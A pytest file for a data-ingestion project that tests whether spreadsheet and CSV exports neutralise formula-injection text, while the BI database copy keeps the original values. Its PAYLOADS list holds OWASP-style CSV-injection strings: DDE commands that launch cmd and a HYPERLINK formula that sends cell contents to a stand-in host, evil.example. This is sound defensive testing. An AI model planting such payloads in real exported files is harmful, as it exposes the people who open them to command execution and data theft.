"""Text from strangers (product titles, messages, nicks) never runs as a formula in a sheet Fugou
writes, and the BI copy keeps it as it is."""

import csv

import duckdb
import openpyxl
import pandas as pd
import pytest

from ingestion import export
from ingestion.publish import publish_marts
from ingestion.spreadsheet import neutralise, unsafe_text_counts, write_spreadsheet
from tests.conftest import PII_KEY

# from the issue and OWASP's CSV-injection page
PAYLOADS = [
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?x="&A1,"点我领券")',
    "\t=1+1",
    "\r=1+1",
]
PLAIN = ["复购家居 米桶 家庭装", "a-b", "1+1", "小厨娘@淘宝", ""]


@pytest.mark.parametrize("value", PAYLOADS)
def test_formula_like_text_gets_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN + [None, 3, -2.5])
def test_other_values_are_left_alone(value):
    assert neutralise(value) == value


def _frame():
    return pd.DataFrame(
        {
            "product_name": PAYLOADS + PLAIN[:1],
            "units_sold": list(range(len(PAYLOADS) + 1)),
            "delta": [-1.5] * (len(PAYLOADS) + 1),
        }
    )


def test_a_csv_opens_with_no_formula(tmp_path):
    path = tmp_path / "products.csv"
    counts = write_spreadsheet(_frame(), path)
    assert counts == {"product_name": len(PAYLOADS)}
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")  # Excel reads it as UTF-8
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    names = [row["product_name"] for row in rows]
    assert names == ["'" + p for p in PAYLOADS] + PLAIN[:1]
    assert all(not n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)
    assert rows[0]["delta"] == "-1.5"  # a number stays a number


def test_a_workbook_holds_text_not_formulas(tmp_path):
    path = tmp_path / "products.xlsx"
    write_spreadsheet(_frame(), path)
    sheet = openpyxl.load_workbook(path).active
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * len(cells)  # "f" would be a formula
    # (XML reads a CR back as a line feed: a property of the format, not of the escape)
    expected = ["'" + p.replace("\r", "\n") for p in PAYLOADS] + PLAIN[:1]
    assert [c.value for c in cells] == expected


def test_the_bi_copy_keeps_the_true_text_and_the_count_says_how_much(tmp_path, monkeypatch, capsys):
    warehouse, published = tmp_path / "warehouse.duckdb", tmp_path / "warehouse_bi.duckdb"
    with duckdb.connect(str(warehouse)) as con:
        con.execute("create schema marts")
        con.register("frame", _frame())
        con.execute("create table marts.dim_products as select * from frame")
        publish_marts(con, published, PII_KEY)
    with duckdb.connect(str(published), read_only=True) as con:
        names = [
            n for (n,) in con.execute("select product_name from marts.dim_products").fetchall()
        ]
        assert sorted(names) == sorted(PAYLOADS + PLAIN[:1])
        assert unsafe_text_counts(con, "marts") == {"dim_products.product_name": len(PAYLOADS)}

    monkeypatch.setenv("FUGOU_PUBLISHED_WAREHOUSE", str(published))
    monkeypatch.setenv("FUGOU_WAREHOUSE", str(warehouse))
    monkeypatch.setenv("FUGOU_PII_KEY", PII_KEY.decode())
    monkeypatch.setenv("FUGOU_LANDING_DIR", str(tmp_path))
    out = tmp_path / "dim_products.xlsx"
    assert export.main(["dim_products", str(out)]) == 0
    said = capsys.readouterr().out
    assert f"{len(PAYLOADS) + 1} rows written" in said and f"product_name {len(PAYLOADS)}" in said
    sheet = openpyxl.load_workbook(out).active
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    assert export.main(["no_such_mart", str(out)]) == 2
    assert "no mart 'no_such_mart'" in capsys.readouterr().err
